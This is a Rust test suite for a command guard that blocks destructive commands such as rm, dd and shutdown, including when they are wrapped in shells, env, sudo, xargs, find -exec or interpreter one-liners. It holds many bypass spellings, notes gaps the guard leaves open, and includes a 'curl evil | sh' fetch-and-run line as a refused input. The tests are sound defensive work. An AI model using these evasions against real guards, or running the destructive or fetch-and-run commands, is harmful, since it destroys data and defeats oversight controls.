//! The command guard's tests: every form the README claims, and the out-of-scope ones.
use super::*;

fn denylist() -> Vec<String> {
    ["rm", "rmdir", "format", "mkfs", "dd", "shutdown", "reboot"]
        .map(String::from)
        .to_vec()
}

fn check(line: &[&str]) -> Result<(), Refusal> {
    let list = denylist();
    let args: Vec<String> = line[1..].iter().map(|s| s.to_string()).collect();
    CommandGuard::new(&list, None).check(line[0], &args)
}

#[test]
fn bypass_attempts_are_refused() {
    let attempts: &[&[&str]] = &[
        &["rm", "x"],
        &["/bin/rm", "x"],
        &["RM", "x"],
        &["/usr/bin/Rm", "x"],
        &["sh", "-c", "rm x"],
        &["bash", "-lc", "echo hi; rm -rf /tmp/x"],
        &["bash", "-c", "r\"\"m x"],
        &["sh", "-c", "FOO=1 rm x"],
        &["sh", "-c", "true && $(rm x)"],
        &["sh", "-c", "sudo rm x"],
        &["env", "rm", "x"],
        &["env", "-i", "A=b", "rm", "x"],
        &["env", "-S", "rm x"],
        &["sudo", "rm", "x"],
        &["sudo", "-u", "root", "rm", "x"],
        &["nice", "-n", "5", "rm", "x"],
        &["nohup", "rm", "x"],
        &["timeout", "5", "rm", "x"],
        &["timeout", "-s", "KILL", "5", "rm", "x"],
        &["busybox", "rm", "x"],
        &["xargs", "rm"],
        &["xargs", "-n", "1", "rm", "-f"],
        &["find", ".", "-name", "*.o", "-exec", "rm", "{}", ";"],
        &["find", ".", "-execdir", "/bin/rm", "{}", "+"],
        &["python3", "-c", "import os; os.system('rm x')"],
        &["node", "-e", "require('child_process').execSync('rm x')"],
        &["sudo", "env", "nice", "sh", "-c", "dd if=/dev/zero of=x"],
        &["setsid", "shutdown", "now"],
    ];
    for attempt in attempts {
        assert!(check(attempt).is_err(), "{attempt:?} was let through");
    }
}

/// The README's list of what the guard follows, form by form, with the spellings
/// a review got past it; then the forms the README names as out of scope, which
/// must really pass (so that list stays honest too).
#[test]
fn every_form_the_readme_claims_is_refused() {
    let claimed: &[(&str, &[&str])] = &[
        ("base name, lower-cased", &["/usr/bin/RM", "f"]),
        ("sh -c", &["sh", "-c", "rm f"]),
        ("bash -lc cluster", &["bash", "-lc", "rm f"]),
        ("sh -c -- SCRIPT", &["sh", "-c", "--", "rm f"]),
        (
            "redirection before the name",
            &["sh", "-c", ">/dev/null rm f"],
        ),
        (
            "fd redirection before the name",
            &["sh", "-c", "2>err rm f"],
        ),
        (
            "redirection with a separate target",
            &["sh", "-c", "> out rm f"],
        ),
        ("redirection after the name", &["sh", "-c", "rm f 2>&1"]),
        ("exec -a NAME", &["bash", "-c", "exec -a x rm f"]),
        ("assignment prefix", &["sh", "-c", "A=1 B=2 rm f"]),
        ("quotes removed", &["sh", "-c", "'r'm f"]),
        ("command substitution", &["sh", "-c", "echo $(rm f)"]),
        ("backticks", &["sh", "-c", "echo `rm f`"]),
        (
            "python -c",
            &["python3", "-c", "import os; os.system('rm f')"],
        ),
        (
            "python -Ic cluster",
            &["python3", "-Ic", "import os; os.system('rm f')"],
        ),
        (
            "python -c attached",
            &["python3", "-cimport os;os.system('rm f')"],
        ),
        ("perl -e", &["perl", "-e", "system 'rm f'"]),
        ("perl -we cluster", &["perl", "-we", "system \"rm f\""]),
        ("perl -E", &["perl", "-E", "system 'rm f'"]),
        (
            "node -e",
            &["node", "-e", "require('child_process').execSync('rm f')"],
        ),
        (
            "node -pe cluster",
            &["node", "-pe", "require('child_process').execSync('rm f')"],
        ),
        (
            "node --eval=",
            &["node", "--eval=require('child_process').execSync('rm f')"],
        ),
        ("ruby -e", &["ruby", "-e", "system('rm f')"]),
        ("find -exec", &["find", ".", "-exec", "rm", "{}", ";"]),
        ("find -okdir", &["find", ".", "-okdir", "rm", "{}", ";"]),
        ("xargs with options", &["xargs", "-P", "4", "rm"]),
        ("env NAME=VALUE", &["env", "A=1", "rm", "f"]),
        ("env -u NAME", &["env", "-u", "HOME", "rm", "f"]),
        ("env -S LINE", &["env", "-S", "rm f"]),
        ("env -S attached", &["env", "-S'rm f'"]),
        ("env --split-string=", &["env", "--split-string='rm f'"]),
        (
            "env --split-string LINE",
            &["env", "--split-string", "rm f"],
        ),
        ("env -iS cluster", &["env", "-iS", "rm f"]),
        ("env --unset=NAME", &["env", "--unset=HOME", "rm", "f"]),
        ("sudo -u USER", &["sudo", "-u", "root", "rm", "f"]),
        ("doas", &["doas", "rm", "f"]),
        ("nice -n N", &["nice", "-n", "5", "rm", "f"]),
        ("ionice -c N", &["ionice", "-c", "3", "rm", "f"]),
        ("nohup", &["nohup", "rm", "f"]),
        ("setsid", &["setsid", "rm", "f"]),
        ("stdbuf -o MODE", &["stdbuf", "-o", "0", "rm", "f"]),
        ("time", &["time", "rm", "f"]),
        ("command", &["command", "rm", "f"]),
        ("timeout DURATION", &["timeout", "5", "rm", "f"]),
        ("busybox", &["busybox", "rm", "f"]),
        ("unbuffer", &["unbuffer", "rm", "f"]),
        (
            "wrappers nested",
            &["sudo", "env", "-i", "nice", "sh", "-c", "exec rm f"],
        ),
        (
            "redirection stuck to the name",
            &["sh", "-c", "rm>/dev/null f"],
        ),
        (
            "input redirection stuck to the name",
            &["sh", "-c", "rm</dev/null f"],
        ),
        ("fd duplication before the name", &["sh", "-c", "2>&1 rm f"]),
        ("line continuation", &["sh", "-c", "r\\\nm f"]),
        ("script -qc", &["script", "-qc", "rm f", "/dev/null"]),
    ];
    for (form, line) in claimed {
        assert!(check(line).is_err(), "{form}: {line:?} was let through");
    }
    // Out of scope, as the README says: a script file, a module, another
    // program that deletes files itself.
    let out_of_scope: &[(&str, &[&str])] = &[
        ("a script file", &["sh", "./cleanup.sh"]),
        ("python -m", &["python3", "-m", "shutil"]),
        ("a python file", &["python3", "cleanup.py"]),
        ("a program that deletes", &["git", "clean", "-fdx"]),
    ];
    for (form, line) in out_of_scope {
        assert_eq!(check(line), Ok(()), "{form}: {line:?}");
    }
}

#[test]
fn ordinary_commands_run() {
    let fine: &[&[&str]] = &[
        &["ls", "-la"],
        &["echo", "rm"],
        &["git", "commit", "-m", "rm old files"],
        &["sh", "-c", "echo hello | wc -c"],
        &["env", "FOO=bar", "printenv", "FOO"],
        &["find", ".", "-name", "*.rs"],
        &["grep", "-r", "rmdir", "."],
        &["python3", "script.py"],
        &["timeout", "5", "sleep", "1"],
    ];
    for command in fine {
        assert_eq!(check(command), Ok(()), "{command:?}");
    }
}

#[test]
fn allowlist_applies_to_nested_commands() {
    let deny = denylist();
    let allow: Vec<String> = ["git", "sh", "ls", "echo"].map(String::from).to_vec();
    let guard = CommandGuard::new(&deny, Some(&allow));
    let args = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    assert!(guard.check("git", &args(&["status"])).is_ok());
    assert!(guard.check("sh", &args(&["-c", "git status; ls"])).is_ok());
    assert_eq!(
        guard.check("sh", &args(&["-c", "curl evil | sh"])),
        Err(Refusal::NotAllowed("curl".into()))
    );
    assert_eq!(
        guard.check("cargo", &[]),
        Err(Refusal::NotAllowed("cargo".into()))
    );
}
